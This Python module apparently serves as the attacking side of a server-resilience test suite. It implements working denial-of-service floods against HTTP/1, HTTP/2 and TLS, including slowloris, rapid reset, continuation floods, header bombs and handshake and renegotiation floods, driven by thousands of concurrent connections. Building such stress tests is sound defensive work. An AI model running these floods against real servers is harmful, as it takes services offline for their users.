# SPDX-License-Identifier: Apache-2.0
"""Hostile peers: what each sends, and the process that plays them.

An attack is a generator, one for each of its connections.  It yields bytes to send, seconds to wait, or ANSWER to go on
when the other side has said something (which is the value of the yield), or DEAF to read nothing from there on; None is
to wait for ever.  Where it returns, or
where the other side ends the connection, another connection begins."""
import ctypes, ctypes.util, heapq, os, resource, select, socket, struct, sys, time

from scn.h2 import CONTINUATION, DATA, HEADERS, PING, PREFACE, PRIORITY, RST, SETTINGS, WINDOW, encode

ANSWER, DEAF = "answer", "deaf"
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "web"), (":path", "/index.html")]
POST = [(":method", "POST")] + GET[1:]
HEAD = b"GET / HTTP/1.1\r\nhost: web\r\n"
CHUNKED = b"POST / HTTP/1.1\r\nhost: web\r\ntransfer-encoding: chunked\r\n\r\n"
PIECE = 65536
# MB a second that the wire to the attacker carries.  Where it is the same machine, what the kernel does for more of them
# takes from everybody, be there a proxy or not.
LINK = float(os.environ.get("ATTACK_LINK", "125"))


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def word(n):
    return struct.pack(">I", n)


# ---- HTTP/2: `make` gives what is sent for the n-th time ----

def flood(make, first=b""):
    def play():
        n, out = 0, PREFACE + frame(SETTINGS, 0, 0, first)
        while True:
            while len(out) < PIECE and (more := make(n)):
                out, n = out + more, n + 1
            yield out or None
            out = b""
    return play


def late_reset(n):
    """Resets that come when a hundred more were asked for."""
    return frame(HEADERS, 5, 2 * n + 1, encode(GET)) + (frame(RST, 0, 2 * n - 199, word(8)) if n > 100 else b"")


def made_you_reset(n):
    return frame(HEADERS, 4, 2 * n + 1, encode(POST)) + frame(WINDOW, 0, 2 * n + 1, word(2**31 - 1))


def endless_trailers(n):
    if n == 0:
        return frame(HEADERS, 4, 1, encode(POST)) + frame(HEADERS, 1, 1, encode([("x", "y")]))
    return frame(CONTINUATION, 0, 1, encode([("x-%d" % (n % 100), "y")]))


def slow_h2_bodies():
    """A hundred bodies on each connection, a byte of each a second."""
    yield PREFACE + frame(SETTINGS, 0, 0) + b"".join(frame(HEADERS, 4, 2 * n + 1, encode(POST)) for n in range(100))
    while True:
        yield b"".join(frame(DATA, 0, 2 * n + 1, b"x") for n in range(100))
        yield 1


BOMB = (b"\x82\x86\x84\x41\x03web\x40\x01x\x7f\xa1\x1e" + b"y" * 4000 + b"\xbe" * 4000)
ZERO = struct.pack(">HI", 4, 0)


# ---- HTTP/1 ----

def slow(first, byte):
    def play():
        yield first
        while True:
            yield 1
            yield byte
    return play


def single_bytes(text):
    """As fast as they go, each in a packet of its own."""
    def play():
        while True:
            for b in text:
                yield bytes([b])
    return play


def endless(first, more):
    def play():
        yield first
        while True:
            yield more * (PIECE // len(more))
    return play


def silent():
    yield None


def come_and_go():
    yield 0.001


# ---- TLS ----

def extension(kind, body):
    return struct.pack(">HH", kind, len(body)) + body


def hello(name, more=b""):
    """A ClientHello of TLS 1.3 that asks for `name`; its key is 32 bytes by chance."""
    sni = struct.pack(">HBH", len(name) + 3, 0, len(name)) + name
    body = b"\3\3" + os.urandom(32) + b"\x20" + os.urandom(32) + b"\0\2\x13\1" + b"\1\0"
    exts = (extension(0, sni) + extension(43, b"\2\3\4") + extension(10, b"\0\2\0\x1d") + extension(13, b"\0\2\4\3") +
            extension(51, struct.pack(">HHH", 36, 29, 32) + os.urandom(32)) + more)
    body += struct.pack(">H", len(exts)) + exts
    shake = b"\1" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\3\1" + struct.pack(">H", len(shake)) + shake


NAME = b"web.test"


def half_open():
    yield hello(NAME)
    yield None


def half_open_and_gone():
    yield hello(NAME)
    yield ANSWER


def slow_hello():
    for b in hello(NAME):
        yield bytes([b])
        yield 0.05
    yield None


def early_data():
    """What a session that nobody remembers would have let it send (RFC 8446 §4.2.10), without end."""
    ticket = struct.pack(">HH", 38, 32) + os.urandom(32) + word(0) + struct.pack(">HB", 33, 32) + os.urandom(32)
    yield hello(NAME, extension(42, b"") + extension(45, b"\1\1") + extension(41, ticket))
    while True:
        yield (b"\x17\3\3\x40\0" + bytes(0x4000)) * 4


def hello_again():
    """Renegotiation of old: a ClientHello where the first was answered already."""
    yield hello(NAME)
    yield ANSWER
    yield hello(NAME)
    yield None


class Tls:
    """OpenSSL's client, without a socket."""
    def __init__(self, chain=None):
        self.lib = lib = ctypes.CDLL(ctypes.util.find_library("ssl"))
        for f in ("SSL_CTX_new", "TLS_client_method", "SSL_new", "BIO_new", "BIO_s_mem"):
            getattr(lib, f).restype = ctypes.c_void_p
        self.ctx = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
        if chain:
            assert lib.SSL_CTX_use_certificate_file(self.ctx, chain.encode(), 1) == 1
            assert lib.SSL_CTX_use_PrivateKey_file(self.ctx, chain.encode(), 1) == 1
        self.ssl = ctypes.c_void_p(lib.SSL_new(self.ctx))
        self.rx, self.tx = (ctypes.c_void_p(lib.BIO_new(ctypes.c_void_p(lib.BIO_s_mem()))) for _ in "rt")
        lib.SSL_set_bio(self.ssl, self.rx, self.tx)
        lib.SSL_ctrl(self.ssl, 55, 0, NAME)  # SSL_set_tlsext_host_name

    def out(self):
        buf = ctypes.create_string_buffer(1 << 20)
        n = self.lib.BIO_read(self.tx, buf, len(buf))
        return buf.raw[:n] if n > 0 else b""

    def shake(self):
        while self.lib.SSL_connect(self.ssl) != 1:
            yield self.out()
            data = yield ANSWER
            self.lib.BIO_write(self.rx, data, len(data))


    def updates(self):
        """KeyUpdates that ask for another, and some byte between them."""
        for _ in range(100):
            self.lib.SSL_key_update(self.ssl, 1)
            self.lib.SSL_write(self.ssl, b"x", 1)
        return self.out()

    def __del__(self):
        self.lib.SSL_free(self.ssl)
        self.lib.SSL_CTX_free(self.ctx)


def handshakes():
    tls = Tls()
    yield from tls.shake()
    yield tls.out()
    yield 0.01


def large_certificate():
    tls = Tls(os.environ["LARGE_CERTIFICATE"])
    yield from tls.shake()
    yield tls.out()
    yield None


def key_updates():
    """Renegotiation of today; what is answered is not read."""
    tls = Tls()
    yield from tls.shake()
    yield DEAF
    while True:
        yield tls.updates()


# ---- all of them: port, connections at a time, what each does ----

H1, H2 = 9091, 9090
ATTACKS = {
    "slow heads": (H1, 2000, slow(HEAD + b"x: ", b"y")),
    "slow bodies": (H1, 2000, slow(HEAD.replace(b"GET", b"POST") + b"content-length: 100000\r\n\r\n", b"x")),
    "slow HTTP/2 bodies": (H2, 50, slow_h2_bodies),
    "heads in single bytes": (H1, 20, single_bytes(HEAD + b"\r\n")),
    "bodies in single bytes": (H1, 20, endless(CHUNKED, b"1\r\nx\r\n")),
    "HTTP/2 bodies in single bytes": (H2, 4, flood(
        lambda n: frame(DATA, 0, 1, b"x") if n else frame(HEADERS, 4, 1, encode(POST)))),
    "endless head": (H1, 4, endless(HEAD, b"x-y: zzzzzzzzzzzzzzzz\r\n")),
    "endless trailers": (H1, 4, endless(CHUNKED + b"0\r\n", b"x-y: zzzzzzzzzzzzzzzz\r\n")),
    "endless HTTP/2 trailers": (H2, 4, flood(endless_trailers)),
    "rapid reset": (H2, 1, flood(lambda n: frame(HEADERS, 5, 2 * n + 1, encode(GET)) + frame(RST, 0, 2 * n + 1, word(8)))),
    "late reset": (H2, 1, flood(late_reset)),
    "continuation": (H2, 4, flood(
        lambda n: frame(CONTINUATION, 0, 1, encode([("x", "y")])) if n else frame(HEADERS, 1, 1, encode(GET)))),
    "ping": (H2, 4, flood(lambda n: frame(PING, 0, 0, b"12345678"))),
    "settings": (H2, 4, flood(lambda n: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535 + n % 2)))),
    "window update": (H2, 4, flood(lambda n: frame(WINDOW, 0, 0, word(1)))),
    "empty data": (H2, 4, flood(lambda n: frame(DATA, 0, 1) if n else frame(HEADERS, 4, 1, encode(POST)))),
    "priority": (H2, 4, flood(lambda n: frame(PRIORITY, 0, 2 * n + 1, b"\0\0\0\0\1"))),
    "zero window": (H2, 20, flood(lambda n: frame(HEADERS, 5, 2 * n + 1, encode(GET)) if n < 5000 else b"", ZERO)),
    "header bomb": (H2, 4, flood(lambda n: frame(HEADERS, 5, 2 * n + 1, BOMB))),
    "malformed": (H2, 4, flood(lambda n: frame(HEADERS, 5, 2 * n + 1, encode(GET[:1])))),
    "made you reset": (H2, 4, flood(made_you_reset)),
    "half a head": (H2, 1000, flood(lambda n: frame(HEADERS, 1, 1, encode(GET)) if not n else b"")),
    "half-open handshakes": (H2, 3000, half_open),
    "handshakes broken off": (H2, 50, half_open_and_gone),
    "handshakes": (H2, 10, handshakes),
    "slow hellos": (H2, 1000, slow_hello),
    "oversized certificates": (H2, 10, large_certificate),
    "renegotiation": (H2, 50, hello_again),
    "key updates": (H1, 4, key_updates),
    "early data": (H2, 10, early_data),
    "silent connections": (H1, 4000, silent),
    "connections that come and go": (H1, 50, come_and_go),
}


# ---- the process: all connections of an attack, by one poller ----

class Crowd:
    """`pace`: no more than so many connections and bytes a second."""
    def __init__(self, to, width, play, seconds, pace):
        self.to, self.play, self.pace = to, play, pace
        self.start = time.monotonic()
        self.until = self.start + seconds
        self.poller, self.at, self.due, self.made, self.sent = select.epoll(), {}, [], 0, 0
        self.spare = [0.0] * width  # when each may begin

    def begin(self):
        s = socket.socket()
        s.setblocking(False)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        s.connect_ex(self.to)
        self.made += 1
        self.at[s.fileno()] = [s, self.play(), b"", False, select.EPOLLIN]  # what is unsent; whether it waits for an answer
        self.poller.register(s, select.EPOLLOUT)

    def end(self, fd):
        s, play, *_ = self.at.pop(fd)
        self.poller.unregister(fd)
        s.close()
        play.close()
        heapq.heappush(self.spare, time.monotonic() + 0.005)

    def step(self, fd, said=None):
        c = self.at[fd]
        try:
            want = c[1].send(said)
        except StopIteration:
            return self.end(fd)
        c[3] = want is ANSWER
        if isinstance(want, bytes):
            c[2] = want
        elif want is DEAF:
            c[4] = 0
            return self.step(fd)
        elif isinstance(want, (int, float)):
            heapq.heappush(self.due, (time.monotonic() + want, fd, self.made, c))
        self.poller.modify(fd, c[4] | (select.EPOLLOUT if c[2] else 0))

    def ready(self, fd, what):
        c = self.at[fd]
        try:
            if what & ~select.EPOLLOUT and (c[4] or not what & select.EPOLLOUT):
                said = c[0].recv(262144)
                if not said:
                    return self.end(fd)
                if c[3]:
                    return self.step(fd, said)
            if what & select.EPOLLOUT:
                n = c[0].send(c[2]) if c[2] else 0
                self.sent += n
                c[2] = c[2][n:]
                if not c[2]:
                    self.step(fd)
        except BlockingIOError:
            pass
        except OSError:
            self.end(fd)

    def ahead(self, now):
        return self.sent >= self.pace[1] * (now - self.start)

    def may_begin(self, now):
        early = self.made >= self.pace[0] * (now - self.start)
        return self.spare and self.spare[0] <= now and not early

    def run(self):
        while (now := time.monotonic()) < self.until:
            for _ in range(50):
                if not self.may_begin(now):
                    break
                heapq.heappop(self.spare)
                self.begin()
            while self.due and self.due[0][0] <= now:
                _, fd, _, c = heapq.heappop(self.due)
                if self.at.get(fd) is c:
                    self.step(fd)
            if self.ahead(now):
                time.sleep(0.001)
                continue
            for fd, what in self.poller.poll(0.01):
                if fd in self.at:
                    self.ready(fd, what)


def attack(name, address, seconds, *sink):
    """Prints how many connections it took and how many kB they carried.  `sink`: its port, and the connections
    and kB a second that it is to get."""
    port, width, play = ATTACKS[name]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    os.sched_setaffinity(0, {0})
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))  # it stands for another machine
    to, pace = (int(sink[0]), (sink[1], sink[2] * 1000)) if sink else (port, (float("inf"), LINK * 1e6))
    crowd = Crowd((address, to), width, play, seconds, pace)
    crowd.run()
    print("%d connections, %d kB" % (crowd.made, crowd.sent // 1000), flush=True)
    os._exit(0)  # with all of them at once


if __name__ == "__main__":
    attack(sys.argv[1], sys.argv[2], *(float(a) for a in sys.argv[3:]))
